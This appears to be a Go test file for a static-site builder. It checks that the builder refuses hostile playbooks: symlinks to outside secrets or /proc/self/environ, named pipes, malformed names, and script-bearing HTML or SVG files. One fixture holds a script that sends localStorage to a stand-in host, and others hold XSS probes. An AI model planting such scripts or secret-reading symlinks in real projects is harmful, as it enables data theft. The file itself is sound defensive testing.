package build

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/playbook-edu/playbook/internal/diag"
	"github.com/playbook-edu/playbook/internal/write"
)

// secret is what a file outside the playbook holds; no build may publish it.
const secret = "SECRET-d41d8cd98f00"

// hostileCase changes a copy of the golden playbook, in src, as a fork or
// a pull request might; outside is a folder beside it holding the secret.
type hostileCase struct {
	name   string
	change func(t *testing.T, src, outside string)
	want   []string // parts of the diagnostics the build must print
}

func TestHostilePlaybooks(t *testing.T) {
	link := func(t *testing.T, target, p string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
	}
	put := func(t *testing.T, p, text string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	withTheme := func(t *testing.T, src string) {
		t.Helper()
		old, err := os.ReadFile(filepath.Join(src, "playbook.yaml"))
		if err != nil {
			t.Fatal(err)
		}
		put(t, filepath.Join(src, "playbook.yaml"), string(old)+"theme: mine\n")
	}
	for _, tc := range []hostileCase{
		{"an image that is a link to a secret", func(t *testing.T, src, outside string) {
			link(t, filepath.Join(outside, "secret.txt"), filepath.Join(src, "content/images/logo.png"))
		}, []string{"content/images/logo.png: error: this is a symbolic link"}},
		{"an image that is a link to /proc/self/environ", func(t *testing.T, src, outside string) {
			link(t, "/proc/self/environ", filepath.Join(src, "content/images/env.png"))
		}, []string{"content/images/env.png: error: this is a symbolic link"}},
		{"an image that is a link inside the playbook", func(t *testing.T, src, outside string) {
			link(t, "../../playbook.yaml", filepath.Join(src, "content/images/config.png"))
		}, []string{"content/images/config.png: error: this is a symbolic link"}},
		{"a folder of images that is a link", func(t *testing.T, src, outside string) {
			link(t, outside, filepath.Join(src, "content/images/more"))
		}, []string{"content/images/more: error: this is a symbolic link"}},
		{"a guide that is a link", func(t *testing.T, src, outside string) {
			link(t, filepath.Join(outside, "guide.md"), filepath.Join(src, "content/guides/stolen.md"))
		}, []string{"content/guides/stolen.md: error: this is a symbolic link"}},
		{"the guides folder is a link", func(t *testing.T, src, outside string) {
			os.RemoveAll(filepath.Join(src, "content/guides"))
			link(t, outside, filepath.Join(src, "content/guides"))
		}, []string{"content/guides: error: this is a symbolic link"}},
		{"a data file that is a link", func(t *testing.T, src, outside string) {
			os.Remove(filepath.Join(src, "data/stories.yaml"))
			link(t, filepath.Join(outside, "secret.txt"), filepath.Join(src, "data/stories.yaml"))
		}, []string{"data/stories.yaml: error: this is a symbolic link"}},
		{"playbook.yaml is a link", func(t *testing.T, src, outside string) {
			os.Remove(filepath.Join(src, "playbook.yaml"))
			link(t, filepath.Join(outside, "secret.txt"), filepath.Join(src, "playbook.yaml"))
		}, []string{"playbook.yaml: error: this is a symbolic link"}},
		{"a theme's static file that is a link", func(t *testing.T, src, outside string) {
			withTheme(t, src)
			link(t, filepath.Join(outside, "secret.txt"), filepath.Join(src, "themes/mine/static/secret.css"))
		}, []string{"themes/mine/static/secret.css: error: this is a symbolic link"}},
		{"a theme's layout that is a link", func(t *testing.T, src, outside string) {
			withTheme(t, src)
			link(t, filepath.Join(outside, "secret.txt"), filepath.Join(src, "themes/mine/layouts/page.html"))
		}, []string{"themes/mine/layouts/page.html: error: this is a symbolic link"}},
		{"the theme folder is a link", func(t *testing.T, src, outside string) {
			withTheme(t, src)
			link(t, outside, filepath.Join(src, "themes/mine"))
		}, []string{"themes/mine: error: this is a symbolic link"}},
		{"playbook.yaml is a folder", func(t *testing.T, src, outside string) {
			os.Remove(filepath.Join(src, "playbook.yaml"))
			os.Mkdir(filepath.Join(src, "playbook.yaml"), 0o755)
		}, []string{"playbook.yaml: error: this is a folder, not a file"}},
		{"data is a file", func(t *testing.T, src, outside string) {
			os.RemoveAll(filepath.Join(src, "data"))
			put(t, filepath.Join(src, "data"), "x")
		}, []string{"data: error: this is a file, not a folder"}},
		{"content/guides is a file", func(t *testing.T, src, outside string) {
			os.RemoveAll(filepath.Join(src, "content/guides"))
			put(t, filepath.Join(src, "content/guides"), "x")
		}, []string{"content/guides: error: this is a file, not a folder"}},
		{"content/images is a file", func(t *testing.T, src, outside string) {
			os.RemoveAll(filepath.Join(src, "content/images"))
			put(t, filepath.Join(src, "content/images"), "x")
		}, []string{"content/images: error: this is a file, not a folder"}},
		{"a data file is a folder", func(t *testing.T, src, outside string) {
			os.Remove(filepath.Join(src, "data/roles.yaml"))
			os.Mkdir(filepath.Join(src, "data/roles.yaml"), 0o755)
		}, []string{"data/roles.yaml: error: this is a folder, not a file"}},
		{"a file name with a line break", func(t *testing.T, src, outside string) {
			put(t, filepath.Join(src, "content/guides", "a\nb.md"), "---\ntitle: A\nsummary: B\n---\n")
		}, []string{`content/guides: error: the file "a\nb.md" in this folder has a name with a line break`}},
		{"a named pipe among the images", func(t *testing.T, src, outside string) {
			if err := syscall.Mkfifo(filepath.Join(src, "content/images/pipe.png"), 0o644); err != nil {
				t.Fatal(err)
			}
		}, []string{"content/images/pipe.png: error: this is not a regular file"}},
		{"an HTML page among the images", func(t *testing.T, src, outside string) {
			put(t, filepath.Join(src, "content/images/login.html"), "<script>fetch('//x.example/?'+localStorage)</script>")
		}, []string{"content/images/login.html: error: this file is not an image"}},
		{"a script named as an image", func(t *testing.T, src, outside string) {
			put(t, filepath.Join(src, "content/images/x.png"), "alert(document.domain)")
		}, []string{"content/images/x.png: error: this file is not a PNG image"}},
		{"an SVG with a script", func(t *testing.T, src, outside string) {
			put(t, filepath.Join(src, "content/images/x.svg"), `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)
		}, []string{"content/images/x.svg: error: this file is an SVG image with a <script> element"}},
		{"a page in a theme's static folder", func(t *testing.T, src, outside string) {
			withTheme(t, src)
			put(t, filepath.Join(src, "themes/mine/static/login.html"), "<script>alert(1)</script>")
		}, []string{"themes/mine/static/login.html: error: this file is a web page"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			src, outside := hostileCopy(t)
			tc.change(t, src, outside)
			out := filepath.Join(t.TempDir(), "public")
			before := builtSite(t, src, out)
			ds, err := Build(context.Background(), Options{Src: src, Out: out})
			if err != nil {
				t.Fatalf("Build: %v", err)
			}
			var b strings.Builder
			diag.Print(&b, diag.Text, ds)
			for _, w := range tc.want {
				if !strings.Contains(b.String(), w) {
					t.Errorf("diagnostics do not say %q:\n%s", w, b.String())
				}
			}
			if !hasErrors(ds) {
				t.Errorf("the build succeeded:\n%s", b.String())
			}
			after := readTree(t, out)
			if len(after) != len(before) {
				t.Errorf("the previous site changed: %d files, was %d", len(after), len(before))
			}
			for name, data := range after {
				if bytes.Contains(data, []byte(secret)) {
					t.Errorf("%s holds the secret from outside the playbook", name)
				}
			}
		})
	}
}

// hostileCopy copies the golden playbook into a new folder, with a folder
// beside it holding the secret.
func hostileCopy(t *testing.T) (src, outside string) {
	t.Helper()
	dir := t.TempDir()
	src = filepath.Join(dir, "playbook")
	if err := os.CopyFS(src, os.DirFS(goldenSrc)); err != nil {
		t.Fatal(err)
	}
	outside = filepath.Join(dir, "outside")
	for name, text := range map[string]string{
		"secret.txt": secret,
		"guide.md":   "---\ntitle: " + secret + "\nsummary: S.\n---\n" + secret + "\n",
		"a.md":       "---\ntitle: A\nsummary: " + secret + "\n---\n",
	} {
		p := filepath.Join(outside, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return src, outside
}

// builtSite builds the golden playbook into out, as the previous site a
// failed build must leave as it was, and returns its files.
func builtSite(t *testing.T, _, out string) map[string][]byte {
	t.Helper()
	mustBuild(t, Options{Src: goldenSrc, Out: out})
	return readTree(t, out)
}

func hasErrors(ds []diag.Diagnostic) bool {
	for _, d := range ds {
		if d.Severity == diag.Error {
			return true
		}
	}
	return false
}

func TestOutputsRefused(t *testing.T) {
	parent := t.TempDir()
	src := filepath.Join(parent, "playbook")
	if err := os.CopyFS(src, os.DirFS(goldenSrc)); err != nil {
		t.Fatal(err)
	}
	victim := filepath.Join(parent, "victim")
	if err := os.MkdirAll(victim, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(victim, "thesis.docx"), []byte("years of work"), 0o644); err != nil {
		t.Fatal(err)
	}
	publicLink := filepath.Join(src, "public")
	if err := os.Symlink(victim, publicLink); err != nil {
		t.Fatal(err)
	}
	for _, out := range []string{victim, publicLink, filepath.Join(src, "schemas"), src, filepath.Join(src, "content")} {
		_, err := Build(context.Background(), Options{Src: src, Out: out})
		var oe *write.OutError
		if !errors.As(err, &oe) {
			t.Errorf("Build into %s: %v, want a refusal", out, err)
		}
	}
	if data, err := os.ReadFile(filepath.Join(victim, "thesis.docx")); err != nil || string(data) != "years of work" {
		t.Fatalf("a refused output lost its files: %q, %v", data, err)
	}
	entries, _ := os.ReadDir(victim)
	if len(entries) != 1 {
		t.Errorf("the refused folder holds %d entries, want its one file", len(entries))
	}
}

func TestInterruptedBuildLeavesOutput(t *testing.T) {
	out := filepath.Join(t.TempDir(), "public")
	before := builtSite(t, "", out)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Build(ctx, Options{Src: goldenSrc, Out: out}); !errors.Is(err, context.Canceled) {
		t.Fatalf("Build after cancel = %v, want context.Canceled", err)
	}
	after := readTree(t, out)
	if len(after) != len(before) {
		t.Fatalf("an interrupted build changed the site: %d files, was %d", len(after), len(before))
	}
	for name, data := range before {
		if !bytes.Equal(after[name], data) {
			t.Errorf("%s changed", name)
		}
	}
	entries, _ := os.ReadDir(filepath.Dir(out))
	if len(entries) != 1 {
		t.Errorf("%d entries beside the output after an interrupt, want only the output", len(entries))
	}
}
